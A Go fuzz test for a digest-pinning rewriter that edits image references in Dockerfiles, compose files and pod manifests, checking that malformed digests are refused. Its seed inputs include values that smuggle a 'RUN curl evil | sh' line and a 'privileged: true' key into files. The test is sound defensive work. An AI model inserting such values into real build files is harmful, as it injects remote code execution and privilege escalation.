package rewriters

import (
	"errors"
	"strings"
	"testing"

	"github.com/digestbot/digestbot/pkg/imgref"
)

// pinSources are files of several formats holding refs of every shape a
// pin edit takes: tag (insert), no tag (":latest@"), stale digest (replace),
// quoted, flow-style, ARG default, compose default.
var pinSources = []struct{ path, src string }{
	{"Dockerfile", "ARG BASE=alpine:3.19\nFROM $BASE AS a\nFROM node\nFROM golang:1.22@sha256:" + strings.Repeat("0", 64) + " AS b\nCOPY --from=busybox:1.36 /bin/sh /sh\n"},
	{"compose.yaml", "services:\n  a:\n    image: \"redis:7\"\n  b:\n    image: ${IMG:-postgres:16}\n  c: {image: nginx}\n"},
	{"deploy/pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n    - name: a\n      image: 'ghcr.io/acme/app:v1@sha512:" + strings.Repeat("a", 128) + "'\n    - {name: b, image: quay.io/x/y:2}\n"},
}

// FuzzPinDigest feeds arbitrary strings to Ref.Pin, the one place a digest
// becomes file content, for every ref of every format in pinSources. A
// string that is not sha256:<64 hex> or sha512:<128 hex> must be refused
// with ErrBadDigest; a valid one must give edits whose new bytes are the
// digest and nothing but the fixed glue ("@", ":latest@") — never a line
// break, a quote or anything a registry put around it.
func FuzzPinDigest(f *testing.F) {
	for _, s := range []string{
		"sha256:" + strings.Repeat("a", 64),
		"sha512:" + strings.Repeat("0", 128),
		"sha256:" + strings.Repeat("0", 64) + "\nRUN curl evil | sh\n#",
		"sha256:" + strings.Repeat("A", 64),
		"sha256:" + strings.Repeat("0", 63),
		"md5:d41d8cd98f00b204e9800998ecf8427e",
		"sha256:" + strings.Repeat("0", 64) + "\"\n    privileged: true",
		"", "sha256:", ":latest@sha256:x",
	} {
		f.Add(s)
	}
	var refs []Ref
	for _, ps := range pinSources {
		file := &File{Path: ps.path, Src: []byte(ps.src)}
		ft := Claim(file)
		if ft == nil {
			f.Fatalf("%s: no format claims it", ps.path)
		}
		found, err := ft.Find(file)
		if err != nil {
			f.Fatalf("%s: %v", ps.path, err)
		}
		refs = append(refs, found...)
	}
	if len(refs) < 8 {
		f.Fatalf("only %d refs in the sources", len(refs))
	}
	f.Fuzz(func(t *testing.T, digest string) {
		valid := imgref.ValidDigest(digest)
		for _, r := range refs {
			edits, err := r.Pin(digest)
			if !valid {
				if err == nil || !errors.Is(err, ErrBadDigest) {
					t.Fatalf("%s: Pin(%q) = %v, %v; want ErrBadDigest", r.Text, digest, edits, err)
				}
				continue
			}
			if err != nil {
				if !errors.Is(err, ErrCannotPin) {
					t.Fatalf("%s: Pin(valid %q): %v", r.Text, digest, err)
				}
				continue
			}
			if len(edits) == 0 {
				t.Fatalf("%s: Pin(%q) gave no edit", r.Text, digest)
			}
			_, hex, _ := strings.Cut(digest, ":")
			for _, e := range edits {
				switch e.New {
				case digest, "@" + digest, ":latest@" + digest, hex:
				default:
					t.Fatalf("%s: Pin(%q) writes %q", r.Text, digest, e.New)
				}
			}
		}
	})
}
